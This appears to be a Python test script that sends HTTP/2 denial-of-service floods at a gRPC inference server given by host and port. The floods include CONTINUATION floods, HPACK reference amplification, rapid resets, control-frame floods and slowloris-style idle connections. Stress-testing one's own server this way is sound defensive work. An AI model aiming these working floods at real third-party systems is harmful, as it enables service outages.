"""HTTP/2 that costs a server more than its sender, as a stranger may send it to the gRPC port.

`python -m tests.grpc_attacks NAME HOST PORT SECONDS` sends one kind, at up to `BYTES_PER_S`, and prints the bytes.
"""

import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count

BYTES_PER_S = 15_000_000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LIVE = "/inference.GRPCInferenceService/ServerLive"
_LARGE = b"\x40\x01a\x7f\xbd\x1d" + b"a" * 3900
"""A header of 3,900 bytes that enters the table, where its index is 62."""
_IT_AGAIN = b"\xbe"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Make a frame."""
    head = struct.pack(">I", len(payload))[1:] + bytes([kind, flags])
    return head + struct.pack(">I", stream) + payload


def headers(path: str = LIVE) -> bytes:
    """Make the headers of a call, without the table."""
    fields = {
        ":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost", "te": "trailers",
        "content-type": "application/grpc",
    }  # fmt: skip
    return b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields.items()
    )


BEGIN = PREFACE + frame(4, 0, 0) + frame(4, 1, 0)


def _endless_headers() -> Iterator[bytes]:
    yield frame(1, 0, 1, headers())
    field = b"\0\x03x-a\x05bbbbb"
    for _ in range(512):  # 8 MiB
        yield frame(9, 0, 1, field * (16_384 // len(field)))


def _empty_continuations() -> Iterator[bytes]:
    yield frame(1, 0, 1, headers())
    while True:
        yield frame(9, 0, 1) * 1000


def _references(size: int) -> Iterator[bytes]:
    """Name one large header as often as a frame of some size can."""
    yield frame(1, 5, 1, headers() + _LARGE)
    for stream in count(3, 2):
        again = (
            _LARGE + _IT_AGAIN * (size - len(_LARGE)) if size > len(_LARGE) else _IT_AGAIN * size
        )
        yield frame(1, 5, stream, again)


def _resets() -> Iterator[bytes]:
    block = headers()
    for stream in count(1, 2):
        yield frame(1, 4, stream, block) + frame(3, 0, stream, struct.pack(">I", 8))


def _refused() -> Iterator[bytes]:
    block = headers("/inference.GRPCInferenceService/ServerMetadata")
    for stream in count(1, 2):
        yield frame(1, 5, stream, block)


def _repeated(one: bytes) -> Callable[[], Iterator[bytes]]:
    def repeat() -> Iterator[bytes]:
        while True:
            yield one * 500

    return repeat


def _data_of_no_call() -> Iterator[bytes]:
    yield frame(1, 5, 1, headers())
    while True:
        yield frame(0, 0, 1, bytes(1000))


FLOODS: dict[str, tuple[Callable[[], Iterator[bytes]], int]] = {
    "endless headers": (_endless_headers, 1),
    "empty continuations": (_empty_continuations, 1),
    "references in 16 KB": (lambda: _references(16_000), 4),
    "references in 3 KB": (lambda: _references(3_000), 4),
    "pings": (_repeated(frame(6, 0, 0, bytes(8))), 4),
    "settings": (_repeated(frame(4, 0, 0, struct.pack(">HI", 4, 65_535))), 4),
    "priorities": (_repeated(frame(2, 0, 1, bytes(5))), 4),
    "windows": (_repeated(frame(8, 0, 0, struct.pack(">I", 1))), 4),
    "resets": (_resets, 4),
    "refused calls": (_refused, 4),
    "data of no call": (_data_of_no_call, 4),
}
"""Bytes of a connection after its beginning, and connections at a time; each is opened again once the server ends it."""

WAITS = ("silence", "half a preface", "silent calls")
"""300 connections that send nothing, half of what begins one, or ten calls each without a message."""


class _Sender:
    def __init__(self, address: tuple[str, int], seconds: float) -> None:
        self._address = address
        self._until_s = time.monotonic() + seconds
        self._begun_s = time.monotonic()
        self.sent = 0
        self.opened = 0

    def flood(self, make: Callable[[], Iterator[bytes]]) -> None:
        """Send, and open the connection again when it ends."""
        while time.monotonic() < self._until_s:
            with (
                suppress(OSError),
                socket.create_connection(self._address, timeout=2) as connection,
            ):
                self.opened += 1
                connection.sendall(BEGIN)
                for part in make():
                    connection.sendall(part)
                    self.sent += len(part)
                    ahead_s = self.sent / BYTES_PER_S - (time.monotonic() - self._begun_s)
                    if ahead_s > 0:
                        time.sleep(ahead_s)
                    if time.monotonic() > self._until_s:
                        return

    def wait(self, name: str) -> None:
        """Keep a connection open, and open it again when it ends."""
        while (left_s := self._until_s - time.monotonic()) > 0:
            with (
                suppress(OSError),
                socket.create_connection(self._address, timeout=2) as connection,
            ):
                self.opened += 1
                if name == "half a preface":
                    connection.sendall(PREFACE[:12])
                if name == "silent calls":
                    connection.sendall(
                        BEGIN + b"".join(frame(1, 4, 2 * n + 1, headers()) for n in range(10))
                    )
                connection.settimeout(max(0.1, left_s))
                while connection.recv(65_536):
                    pass


def main() -> None:
    """Send one kind."""
    name, host, port, seconds = sys.argv[1:]
    sender = _Sender((host, int(port)), float(seconds))
    if name in WAITS:
        threads = [threading.Thread(target=sender.wait, args=(name,)) for _ in range(300)]
    else:
        make, connections = FLOODS[name]
        threads = [threading.Thread(target=sender.flood, args=(make,)) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    sys.stdout.write(f"{sender.sent} {sender.opened}\n")


if __name__ == "__main__":
    main()
